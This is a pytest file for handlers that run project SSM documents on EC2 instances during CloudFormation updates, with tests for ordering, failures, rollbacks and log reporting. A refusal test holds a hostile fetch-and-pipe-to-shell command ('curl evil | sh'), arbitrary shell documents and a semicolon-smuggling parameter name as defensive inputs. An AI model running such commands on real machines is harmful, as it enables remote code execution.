"""The box-operations handlers against moto SSM and CloudWatch Logs: one box at a time, a
failing box fails the resource and names where its whole output is, a rollback runs the old
properties, Delete runs the revert steps, and a step is a project document, never commands."""

from __future__ import annotations

import json
import time
from typing import Any

import boto3
import pytest
from botocore.awsrequest import AWSResponse
from box_ops_handler import StepFailed, is_complete, on_event
from box_ops_support import DOCUMENT, OUTPUT_GROUP, STATE_PREFIX, Boxes, event, step

BOX_1 = "i-0123456789abcdef0"
BOX_2 = "i-0fedcba9876543210"
TWO_BOXES = [
    step("provision Box", BOX_1, "one", timeout=900),
    step("provision Box2", BOX_2, "two", timeout=900),
]


def run(ssm: Any, boxes: Boxes, request: dict[str, Any]) -> dict[str, Any]:
    """Drive a request to its end with every box answering Success."""
    request = {**request, **on_event(request, ssm=ssm)}
    for _ in range(10):
        for sent in boxes.sent():
            boxes.answer(sent, "Success", stdout=f"done {sent.instance_id}\n")
        reply = is_complete(request, ssm=ssm)
        if reply["IsComplete"]:
            return reply
    raise AssertionError("never completed")


def state_parameters(ssm: Any) -> list[str]:
    reply = ssm.get_parameters_by_path(Path=STATE_PREFIX, Recursive=True)
    return [parameter["Name"] for parameter in reply["Parameters"]]


def test_boxes_are_updated_one_at_a_time_in_order(ssm: Any, boxes: Boxes) -> None:
    request = event("Update", TWO_BOXES)
    request = {**request, **on_event(request, ssm=ssm)}

    (first,) = boxes.sent()
    assert (first.instance_id, first.document, first.parameters) == (
        BOX_1,
        DOCUMENT,
        {"Action": ["one"], "executionTimeout": ["900"]},
    )
    boxes.answer(first, "InProgress")
    assert is_complete(request, ssm=ssm) == {"IsComplete": False}
    assert len(boxes.sent()) == 1, "box 2 must wait until box 1 is done"

    boxes.answer(first, "Success")
    assert is_complete(request, ssm=ssm) == {"IsComplete": False}
    second = boxes.sent()[1]
    assert (second.instance_id, second.parameters["Action"]) == (BOX_2, ["two"])

    boxes.answer(second, "Success", stdout='provision: ok\n{"box": 2}\n')
    reply = is_complete(request, ssm=ssm)

    assert reply == {"IsComplete": True, "Data": {"Steps": "2", "LastOutput": '{"box": 2}'}}
    assert state_parameters(ssm) == []


def test_a_failing_box_fails_the_resource_and_the_next_box_is_never_touched(
    ssm: Any, boxes: Boxes
) -> None:
    request = event("Update", TWO_BOXES)
    request = {**request, **on_event(request, ssm=ssm)}
    (first,) = boxes.sent()
    boxes.answer(first, "Failed", code=1, stderr="update: /health/ready never answered 200")

    with pytest.raises(StepFailed, match=r"provision Box on i-0123.*Failed \(exit 1\).*ready"):
        is_complete(request, ssm=ssm)

    assert [sent.instance_id for sent in boxes.sent()] == [BOX_1]
    assert state_parameters(ssm) == []


@pytest.mark.parametrize("status", ["TimedOut", "Cancelled"])
def test_a_command_that_timed_out_on_the_box_fails_the_resource(
    ssm: Any, boxes: Boxes, status: str
) -> None:
    request = event("Create", TWO_BOXES)
    request = {**request, **on_event(request, ssm=ssm)}
    boxes.answer(boxes.sent()[0], status)

    with pytest.raises(StepFailed, match=status):
        is_complete(request, ssm=ssm)


def test_a_rolled_back_update_applies_the_properties_it_is_given(ssm: Any, boxes: Boxes) -> None:
    """CloudFormation rolls a failed Update back by sending the old properties as the new."""
    previous = [step("provision Box", BOX_1, "release-v1")]
    failed = [step("provision Box", BOX_1, "release-v2")]
    rollback = event(
        "Update",
        previous,
        OldResourceProperties={"Apply": failed, "Revert": []},
        PhysicalResourceId="box-ops:BoxUpdate",
    )

    reply = run(ssm, boxes, rollback)

    assert reply["IsComplete"] is True
    assert [sent.parameters["Action"] for sent in boxes.sent()] == [["release-v1"]]


def test_the_physical_id_is_kept_across_updates(ssm: Any) -> None:
    created = on_event(event("Create", []), ssm=ssm)
    updated = on_event(
        event("Update", [], PhysicalResourceId=created["PhysicalResourceId"]), ssm=ssm
    )

    assert updated["PhysicalResourceId"] == created["PhysicalResourceId"] == "box-ops:BoxUpdate"


def test_delete_runs_the_revert_steps_and_not_the_apply_steps(ssm: Any, boxes: Boxes) -> None:
    revert = [step("switch Box2 back", BOX_2, "back-two"), step("switch Box back", BOX_1, "b1")]
    request = event("Delete", TWO_BOXES, revert, PhysicalResourceId="box-ops:BoxUpdate")

    run(ssm, boxes, request)

    assert [(sent.instance_id, sent.parameters["Action"]) for sent in boxes.sent()] == [
        (BOX_2, ["back-two"]),
        (BOX_1, ["b1"]),
    ]


def test_delete_without_revert_steps_touches_no_box(ssm: Any, boxes: Boxes) -> None:
    request = event("Delete", TWO_BOXES, PhysicalResourceId="box-ops:BoxUpdate")
    request = {**request, **on_event(request, ssm=ssm)}

    assert is_complete(request, ssm=ssm)["IsComplete"] is True
    assert boxes.sent() == []


def test_an_invocation_ssm_does_not_know_yet_is_waited_for_then_fails(
    ssm: Any, boxes: Boxes
) -> None:
    request = event("Create", TWO_BOXES)
    request = {**request, **on_event(request, ssm=ssm)}
    boxes.forget_invocations(boxes.sent()[0])

    assert is_complete(request, ssm=ssm, now=time.time() + 5) == {"IsComplete": False}
    with pytest.raises(StepFailed, match="SSM agent online"):
        is_complete(request, ssm=ssm, now=time.time() + 120)


class CancelRecorder:
    """moto has no CancelCommand: record it, pass every other call to moto."""

    def __init__(self, ssm: Any) -> None:
        self.ssm = ssm
        self.cancelled: list[tuple[str, list[str]]] = []

    def cancel_command(self, CommandId: str, InstanceIds: list[str]) -> None:
        self.cancelled.append((CommandId, InstanceIds))

    def __getattr__(self, name: str) -> Any:
        return getattr(self.ssm, name)


def test_a_box_that_never_finishes_is_cancelled_and_fails_the_resource(
    ssm: Any, boxes: Boxes
) -> None:
    client = CancelRecorder(ssm)
    request = event("Create", [step("provision Box", BOX_1, "follow-wait", timeout=300)])
    request = {**request, **on_event(request, ssm=client)}
    (sent,) = boxes.sent()
    boxes.answer(sent, "InProgress")

    assert is_complete(request, ssm=client, now=time.time() + 200)["IsComplete"] is False
    with pytest.raises(StepFailed, match="still InProgress after 300 s"):
        is_complete(request, ssm=client, now=time.time() + 500)
    assert client.cancelled == [(sent.command_id, [BOX_1])]


@pytest.mark.parametrize(
    "bad",
    [
        {"Name": "x", "InstanceId": BOX_1, "Document": DOCUMENT},
        {**step("x", "not-an-instance", "one")},
        {**step("x", BOX_1, "one"), "Document": ""},
        {**step("x", BOX_1, "one"), "Parameters": {"a;b": "1"}},
    ],
)
def test_a_malformed_step_is_refused_before_any_box_is_touched(
    ssm: Any, boxes: Boxes, bad: dict[str, Any]
) -> None:
    with pytest.raises(StepFailed, match="Apply step 2"):
        on_event(event("Create", [TWO_BOXES[0], bad]), ssm=ssm)
    assert boxes.sent() == []


# A step names one of the project's documents; it never carries commands (issue 21).


@pytest.mark.parametrize(
    "hostile",
    [
        {"Name": "x", "InstanceId": BOX_1, "Commands": ["curl evil | sh"], "TimeoutSeconds": "9"},
        {**step("x", BOX_1, "one"), "Commands": ["id"]},
        {**step("x", BOX_1, "one"), "Document": "AWS-RunShellScript"},
        {**step("x", BOX_1, "one"), "Document": "AWS-RunPowerShellScript"},
        {**step("x", BOX_1, "one"), "Document": "AmazonInspector-ManageAWSAgent"},
    ],
    ids=["commands", "commands-beside-a-document", "shell", "powershell", "amazon"],
)
def test_a_step_with_commands_or_an_aws_document_is_refused_and_nothing_is_sent(
    ssm: Any, boxes: Boxes, hostile: dict[str, Any]
) -> None:
    with pytest.raises(StepFailed, match=r"Apply step 1 .*(commands|not a project document)"):
        on_event(event("Create", [hostile]), ssm=ssm)
    assert boxes.sent() == []
    assert boxes.requests == []


def test_each_step_is_sent_as_its_document_with_its_whole_output_to_cloudwatch(
    ssm: Any, boxes: Boxes
) -> None:
    request = event("Create", TWO_BOXES)
    on_event(request, ssm=ssm)

    (sent,) = boxes.requests
    assert sent["DocumentName"] == DOCUMENT
    assert sent["Parameters"] == {"Action": ["one"], "executionTimeout": ["900"]}
    assert sent["CloudWatchOutputConfig"] == {
        "CloudWatchLogGroupName": OUTPUT_GROUP,
        "CloudWatchOutputEnabled": True,
    }
    assert "Commands" not in json.dumps(sent)


def test_a_request_without_an_output_group_is_refused(ssm: Any, boxes: Boxes) -> None:
    request = event("Create", TWO_BOXES)
    del request["ResourceProperties"]["OutputLogGroup"]
    with pytest.raises(StepFailed, match="OutputLogGroup"):
        on_event(request, ssm=ssm)
    assert boxes.sent() == []


def _failed(ssm: Any, boxes: Boxes, logs: Any, stdout: str, stderr: str) -> tuple[Any, str]:
    request = event("Update", TWO_BOXES)
    request = {**request, **on_event(request, ssm=ssm)}
    (sent,) = boxes.sent()
    boxes.answer(sent, "Failed", code=1, stdout=stdout, stderr=stderr)
    with pytest.raises(StepFailed) as failure:
        is_complete(request, ssm=ssm, logs=logs)
    return sent, str(failure.value)


def test_a_failed_step_names_the_log_streams_that_hold_its_whole_output(
    ssm: Any, boxes: Boxes, logs: Any
) -> None:
    request = event("Update", TWO_BOXES)
    request = {**request, **on_event(request, ssm=ssm)}
    (sent,) = boxes.sent()
    streams = [
        boxes.write_output(sent, "stdout", ["provision: starting"]),
        boxes.write_output(sent, "stderr", ["update: /health/ready never answered 200"]),
    ]
    boxes.answer(sent, "Failed", code=1, stderr="update: /health/ready never answered 200")

    with pytest.raises(StepFailed) as failure:
        is_complete(request, ssm=ssm, logs=logs)

    message = str(failure.value)
    assert "never answered 200" in message
    assert f"log group {OUTPUT_GROUP}" in message
    for stream in streams:
        assert stream in message


def test_a_long_failed_step_reports_its_real_last_lines_not_the_end_of_ssms_cut(
    ssm: Any, boxes: Boxes, logs: Any
) -> None:
    """SSM keeps the first 24,000 characters of stdout and 8,000 of stderr; the error that
    ended the step is at the end of the whole output, in CloudWatch Logs."""
    request = event("Update", TWO_BOXES)
    request = {**request, **on_event(request, ssm=ssm)}
    (sent,) = boxes.sent()
    noise = [f"pip: collecting package {n:05d} ........................" for n in range(2000)]
    whole_stdout = [*noise, "provision: installing nginx", "provision: nginx -t failed"]
    whole_stderr = [*noise, "nginx: [emerg] unknown directive 'limit_req_zonee' in line 12"]
    boxes.write_output(sent, "stdout", whole_stdout)
    stderr_stream = boxes.write_output(sent, "stderr", whole_stderr)
    boxes.answer(
        sent,
        "Failed",
        code=1,
        stdout="\n".join(whole_stdout)[:24_000],
        stderr="\n".join(whole_stderr)[:8_000],
    )

    with pytest.raises(StepFailed) as failure:
        is_complete(request, ssm=ssm, logs=logs)

    message = str(failure.value)
    assert "unknown directive 'limit_req_zonee'" in message
    assert "nginx -t failed" in message
    assert stderr_stream in message


def test_a_long_failed_step_whose_log_is_not_there_yet_says_so_and_points_to_it(
    ssm: Any, boxes: Boxes, logs: Any
) -> None:
    sent, message = _failed(ssm, boxes, logs, stdout="x" * 24_000, stderr="y" * 8_000)

    assert "cut by SSM at 24000 characters" in message
    assert "cut by SSM at 8000 characters" in message
    assert "xxxxxxxxxx" not in message
    assert f"log group {OUTPUT_GROUP}, streams {sent.command_id}/{BOX_1}/*" in message


def test_a_long_successful_step_returns_its_real_last_line(
    ssm: Any, boxes: Boxes, logs: Any
) -> None:
    request = event("Update", [TWO_BOXES[0]])
    request = {**request, **on_event(request, ssm=ssm)}
    (sent,) = boxes.sent()
    whole = [*(f"copy: {n:06d} keys ........................" for n in range(1000)), '{"ok": 1}']
    boxes.write_output(sent, "stdout", whole)
    boxes.answer(sent, "Success", stdout="\n".join(whole)[:24_000])

    reply = is_complete(request, ssm=ssm, logs=logs)

    assert reply["Data"]["LastOutput"] == '{"ok": 1}'


def test_a_created_box_update_touches_no_box_cfn_init_provisioned(ssm: Any, boxes: Boxes) -> None:
    """The stack's own boxes were provisioned by cfn-init before they signalled; the resource
    created with them must not provision them a second time."""
    request = with_properties(event("Create", TWO_BOXES), SkipNewBoxes="true")
    reply = run(ssm, boxes, request)
    assert boxes.sent() == []
    assert reply["Data"]["Steps"] == "0"


def test_an_update_skips_only_the_box_this_deploy_created(ssm: Any, boxes: Boxes) -> None:
    """Box 2 added in this deploy (a new instance id) was provisioned by cfn-init; box 1, named
    by the previous properties, gets the new release."""
    request = with_properties(
        event(
            "Update",
            TWO_BOXES,
            OldResourceProperties={"Apply": [step("update Box", BOX_1, "one")]},
        ),
        SkipNewBoxes="true",
    )
    run(ssm, boxes, request)
    assert [sent.instance_id for sent in boxes.sent()] == [BOX_1]


def test_without_the_option_a_create_runs_every_step(ssm: Any, boxes: Boxes) -> None:
    """The Redis cutover's boxes belong to another stack: its Create runs on all of them."""
    run(ssm, boxes, event("Create", TWO_BOXES))
    assert [sent.instance_id for sent in boxes.sent()] == [BOX_1, BOX_2]


def with_properties(request: dict[str, Any], **properties: str) -> dict[str, Any]:
    return {
        **request,
        "ResourceProperties": {**request["ResourceProperties"], **properties},
    }


class CreditCalls:
    """A real EC2 client: botocore serializes and validates each request against the service
    model, and it is answered here, not sent (moto has no ModifyInstanceCreditSpecification)."""

    def __init__(self, unsuccessful: str = "") -> None:
        self.client = boto3.client(
            "ec2", region_name="us-east-1", aws_access_key_id="x", aws_secret_access_key="x"
        )
        self.bodies: list[str] = []
        failure = (
            "<unsuccessfulInstanceCreditSpecificationSet><item><instanceId>"
            f"{unsuccessful}</instanceId><error><code>IncorrectInstanceState</code><message>"
            "The instance is not in a valid state</message></error></item>"
            "</unsuccessfulInstanceCreditSpecificationSet>"
            if unsuccessful
            else ""
        )
        body = (
            '<ModifyInstanceCreditSpecificationResponse xmlns="http://ec2.amazonaws.com/doc/'
            '2016-11-15/"><requestId>r</requestId><successfulInstanceCreditSpecificationSet/>'
            f"{failure}</ModifyInstanceCreditSpecificationResponse>"
        ).encode()

        def answer(request: Any, **_: Any) -> Any:
            self.bodies.append(
                request.body.decode() if isinstance(request.body, bytes) else request.body
            )
            return AWSResponse(request.url, 200, {}, _Raw(body))

        self.client.meta.events.register_first(
            "before-send.ec2.ModifyInstanceCreditSpecification", answer
        )


class _Raw:
    def __init__(self, body: bytes) -> None:
        self._body = body

    def stream(self, **_: Any) -> Any:
        yield self._body

    def read(self, *_: Any) -> bytes:
        return self._body


def test_every_box_is_switched_to_standard_credits_once_healthy() -> None:
    calls = CreditCalls()
    request = with_properties(
        event("Create", TWO_BOXES), SkipNewBoxes="true", StandardCredits="true"
    )
    on_event(request, ec2=calls.client)
    (body,) = calls.bodies
    assert "Action=ModifyInstanceCreditSpecification" in body
    for index, box in enumerate(sorted([BOX_1, BOX_2]), start=1):
        assert f"InstanceCreditSpecification.{index}.InstanceId={box}" in body
        assert f"InstanceCreditSpecification.{index}.CpuCredits=standard" in body


def test_a_refused_credit_switch_fails_the_resource_in_one_line() -> None:
    calls = CreditCalls(unsuccessful=BOX_2)
    request = with_properties(event("Update", TWO_BOXES), StandardCredits="true")
    with pytest.raises(
        StepFailed,
        match=rf"^switching the boxes to standard CPU credits failed: {BOX_2}: The instance",
    ):
        on_event(request, ec2=calls.client)


def test_delete_switches_no_credits(ssm: Any) -> None:
    calls = CreditCalls()
    on_event(
        with_properties(event("Delete", TWO_BOXES), StandardCredits="true"),
        ssm=ssm,
        ec2=calls.client,
    )
    assert calls.bodies == []
